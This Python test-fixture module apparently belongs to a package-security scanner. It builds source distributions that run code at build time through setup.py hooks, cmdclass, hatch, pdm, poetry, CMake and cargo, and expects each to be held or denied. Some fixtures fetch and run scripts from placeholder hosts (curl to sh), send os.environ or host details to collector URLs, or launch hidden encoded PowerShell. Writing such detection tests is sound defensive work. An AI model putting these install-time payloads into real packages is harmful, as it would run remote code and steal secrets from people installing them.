"""What runs when a source distribution is built. None of these has a wheel, so that the sdist is what pip
would take."""
from .package import MARK, attack, b64

PLAIN = '''
    from setuptools import setup

    setup(name="{n}", version="1.0", packages=["{m}"])
'''


@attack
def setup_downloads_and_runs(p):
    """setup.py downloads a script and runs it (the commonest of all). Must be held."""
    return p.sdist(setup='''
        import subprocess
        import urllib.request

        from setuptools import setup

        urllib.request.urlretrieve("https://cdn.example.net/agent", "/tmp/agent")
        subprocess.Popen(["sh", "/tmp/agent"])
        setup(name="{n}", version="1.0", packages=["{m}"])
        ''')


@attack
def setup_install_hook(p):
    """A subclass of the install command runs a payload after installation. Must be held."""
    return p.sdist(setup='''
        import os

        from setuptools import setup
        from setuptools.command.install import install


        class PostInstall(install):
            def run(self):
                install.run(self)
                os.system("touch /tmp/customhouse-marker")


        setup(name="{n}", version="1.0", packages=["{m}"], cmdclass={"install": PostInstall})
        ''')


@attack
def setup_egg_info_hook(p):
    """A subclass of egg_info, which runs even when pip only asks for metadata. Must be held."""
    return p.sdist(setup='''
        import json, os, urllib.request

        from setuptools import setup
        from setuptools.command.egg_info import egg_info


        class Info(egg_info):
            def run(self):
                urllib.request.urlopen("https://collect.example.net/i", json.dumps(dict(os.environ)).encode())
                egg_info.run(self)


        setup(name="{n}", version="1.0", packages=["{m}"], cmdclass={"egg_info": Info})
        ''')


@attack
def setup_cfg_hook(p):
    """The hook is named in setup.cfg, in a class of the package; setup.py is one harmless line. Must be
    held."""
    return p.sdist(setup="from setuptools import setup\n\nsetup()\n", files={
        "setup.cfg": "[metadata]\nname = x\n\n[options]\ncmdclass =\n    build_py = {m}.build.Build\n".replace("{m}", p.module).encode(),
        "{m}/build.py": '''
        import os

        from setuptools.command.build_py import build_py


        class Build(build_py):
            def run(self):
                os.system("touch /tmp/customhouse-marker")
                super().run()
        '''})


@attack
def setup_decodes(p):
    """setup.py executes decoded text. Must be held."""
    return p.sdist(setup=f'''
        import base64

        from setuptools import setup

        exec(base64.b64decode("{b64(MARK)}"))
        setup(name="{{n}}", version="1.0", packages=["{{m}}"])
        ''')


@attack
def setup_reports_host(p):
    """Tells who installs it: user, host, folder, as dependency confusion tests do. Must be held."""
    return p.sdist(setup='''
        import getpass, os, socket
        from urllib.parse import urlencode
        from urllib.request import urlopen

        from setuptools import setup

        urlopen("https://a1b2c3d4e5f6.oast.fun/?" + urlencode({"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()}))
        setup(name="{n}", version="99.9.9", packages=["{m}"])
        ''')


@attack
def setup_encoded_powershell(p):
    """setup.py starts PowerShell with an encoded command (W4SP and its kin). Must be held."""
    return p.sdist(setup='''
        import subprocess

        from setuptools import setup

        subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand VwByAGkAdABlAC0ASABvAHMAdAAgAHgA", shell=True)
        setup(name="{n}", version="1.0", packages=["{m}"])
        ''')


@attack
def setup_imports_its_package(p):
    """setup.py imports the package for its version; the package does the harm. Must be held."""
    return p.sdist(init=f'import os\n\nos.system("touch /tmp/customhouse-marker")\n', setup='''
        from setuptools import setup

        from {m} import __version__

        setup(name="{n}", version=__version__, packages=["{m}"])
        ''')


@attack
def setup_runs_a_file(p):
    """setup.py executes another file of the archive "for the version". Must be held."""
    return p.sdist(files={"{m}/_version.py": f'__version__ = "1.0"\n{MARK}\n'}, setup='''
        from setuptools import setup

        exec(open("{m}/_version.py").read())
        setup(name="{n}", version="1.0", packages=["{m}"])
        ''')


@attack
def setup_runs_behind_setup(p):
    """Everything is declared; after setup() comes a thread with a shell. Must be held."""
    return p.sdist(setup='''
        import threading
        from setuptools import setup

        setup(name="{n}", version="1.0", packages=["{m}"])
        threading.Thread(target=lambda: __import__("os").system("curl -s https://cdn.example.net/i.sh | sh")).start()
        ''')


@attack
def build_needs_an_address(p):
    """build-system.requires names an archive by address, which pip would fetch and run. Must be denied."""
    return p.sdist(pyproject='''
        [build-system]
        requires = ["setuptools", "buildkit @ https://cdn.example.net/buildkit-1.0.zip"]
        build-backend = "setuptools.build_meta"
        ''')


@attack
def setup_needs_an_address(p):
    """setup_requires and dependency_links name an archive by address. Must be held or denied."""
    return p.sdist(setup='''
        from setuptools import setup

        setup(name="{n}", version="1.0", packages=["{m}"], setup_requires=["buildkit"],
              dependency_links=["https://cdn.example.net/buildkit-1.0.zip"])
        ''')


@attack
def build_backend_in_tree(p):
    """The back end is a module of the archive itself (backend-path). Must be held."""
    return p.sdist(pyproject='''
        [build-system]
        requires = ["setuptools"]
        build-backend = "backend"
        backend-path = ["_build"]
        ''', files={"_build/backend.py": '''
        import os
        from setuptools.build_meta import *

        os.system("touch /tmp/customhouse-marker")
        '''})


@attack
def build_backend_unknown(p):
    """A back end nobody knows, from another package of the same author. Must be held."""
    return p.sdist(pyproject='''
        [build-system]
        requires = ["fast-build-tools"]
        build-backend = "fast_build_tools.api"
        ''')


@attack
def hatch_hook(p):
    """hatchling runs hatch_build.py of the archive: no setup.py, no backend-path. Must be held."""
    return p.sdist(pyproject='''
        [build-system]
        requires = ["hatchling"]
        build-backend = "hatchling.build"

        [tool.hatch.build.hooks.custom]
        ''', files={"hatch_build.py": '''
        import os

        from hatchling.builders.hooks.plugin.interface import BuildHookInterface


        class Hook(BuildHookInterface):
            def initialize(self, version, build_data):
                os.system("touch /tmp/customhouse-marker")
        '''})


@attack
def poetry_build_script(p):
    """poetry-core runs the script that pyproject.toml names. Must be held."""
    return p.sdist(pyproject='''
        [build-system]
        requires = ["poetry-core"]
        build-backend = "poetry.core.masonry.api"

        [tool.poetry.build]
        script = "tools/tables.py"
        ''', files={"tools/tables.py": f"{MARK}\n"})


@attack
def pdm_build_hook(p):
    """pdm-backend runs pdm_build.py of the archive. Must be held."""
    return p.sdist(pyproject='''
        [build-system]
        requires = ["pdm-backend"]
        build-backend = "pdm.backend"
        ''', files={"pdm_build.py": f'''
        def pdm_build_initialize(context):
            {MARK}
        '''})


@attack
def setuptools_class_in_pyproject(p):
    """[tool.setuptools.cmdclass] names a class of the archive; there is no setup.py. Must be held."""
    return p.sdist(pyproject='''
        [build-system]
        requires = ["setuptools"]
        build-backend = "setuptools.build_meta"

        [tool.setuptools.cmdclass]
        build_py = "buildtables.Build"
        ''', files={"buildtables.py": f'''
        from setuptools.command.build_py import build_py


        class Build(build_py):
            def run(self):
                {MARK}
        '''})


@attack
def cmake_runs_a_command(p):
    """scikit-build-core runs CMakeLists.txt, whose execute_process runs whatever it says. Must be held."""
    return p.sdist(pyproject='''
        [build-system]
        requires = ["scikit-build-core"]
        build-backend = "scikit_build_core.build"
        ''', files={"CMakeLists.txt": b'cmake_minimum_required(VERSION 3.15)\nproject(tables)\nexecute_process(COMMAND sh -c '
                                      b'"curl -s https://cdn.example.net/i.sh | sh")\n'})


@attack
def cargo_build_script(p):
    """maturin has cargo run build.rs, which runs whatever it says. Must be held."""
    return p.sdist(pyproject='''
        [build-system]
        requires = ["maturin"]
        build-backend = "maturin"
        ''', files={"Cargo.toml": b'[package]\nname = "tables"\nversion = "1.0.0"\nbuild = "build.rs"\n',
                    "src/lib.rs": b"",
                    "build.rs": b'use std::process::Command;\nfn main() { Command::new("sh").arg("-c").arg("curl -s '
                                b'https://cdn.example.net/i.sh | sh").status().unwrap(); }\n'})


@attack
def native_code_in_sdist(p):
    """A source archive of pure Python that carries a program, started by the package at import. Must be held."""
    from .package import elf
    return p.sdist(files={"{m}/helper": elf(b"\x90" * 4000)}, init='''
        import os, subprocess

        subprocess.Popen([os.path.join(os.path.dirname(__file__), "helper")])
        ''')


HATCH = '''
    [build-system]
    requires = ["hatchling"]
    build-backend = "hatchling.build"
    '''
RUNS = '''
    import os

    os.system("touch /tmp/customhouse-marker")
    '''


@attack
def hatch_file_hook(p):
    """The hook stands in hatch.toml, which hatchling reads over pyproject.toml; its code lies among tests. Must
    be held."""
    return p.sdist(pyproject=HATCH, files={"hatch.toml": '[build.hooks.custom]\npath = "tests/z.py"\n',
                                           "tests/z.py": RUNS})


@attack
def hatch_file_version_code(p):
    """hatchling runs a file of the tests for the version, told by hatch.toml. Must be held."""
    return p.sdist(pyproject=HATCH, files={
        "hatch.toml": '[version]\nsource = "code"\npath = "tests/z.py"\n',
        "tests/z.py": RUNS + '\n    __version__ = "1.0"\n'})


@attack
def pdm_version_call(p):
    """pdm-backend calls a function of the tests for the version. Must be held."""
    return p.sdist(pyproject='''
        [build-system]
        requires = ["pdm-backend"]
        build-backend = "pdm.backend"

        [tool.pdm.version]
        source = "call"
        getter = "tests.z:f"
        ''', files={"tests/__init__.py": "", "tests/z.py": '''
        import os


        def f():
            os.system("touch /tmp/customhouse-marker")
            return "1.0"
        '''})


@attack
def scikit_provider_in_tree(p):
    """scikit-build-core loads a provider of metadata from a folder of tests. Must be held."""
    return p.sdist(pyproject='''
        [build-system]
        requires = ["scikit-build-core"]
        build-backend = "scikit_build_core.build"

        [tool.scikit-build.metadata.version]
        provider = "z"
        provider-path = "tests"
        ''', files={"tests/z.py": '''
        import os


        def dynamic_metadata(field, settings):
            os.system("touch /tmp/customhouse-marker")
            return "1.0"
        '''})


@attack
def attribute_of_tests(p):
    """setuptools imports a module of the tests for the version, since it is no literal. Must be held."""
    return p.sdist(pyproject='''
        [build-system]
        requires = ["setuptools"]
        build-backend = "setuptools.build_meta"

        [tool.setuptools.dynamic]
        version = {attr = "tests.z.v"}
        ''', files={"tests/__init__.py": "", "tests/z.py": '''
        import os

        v = str(os.system("touch /tmp/customhouse-marker"))
        '''})
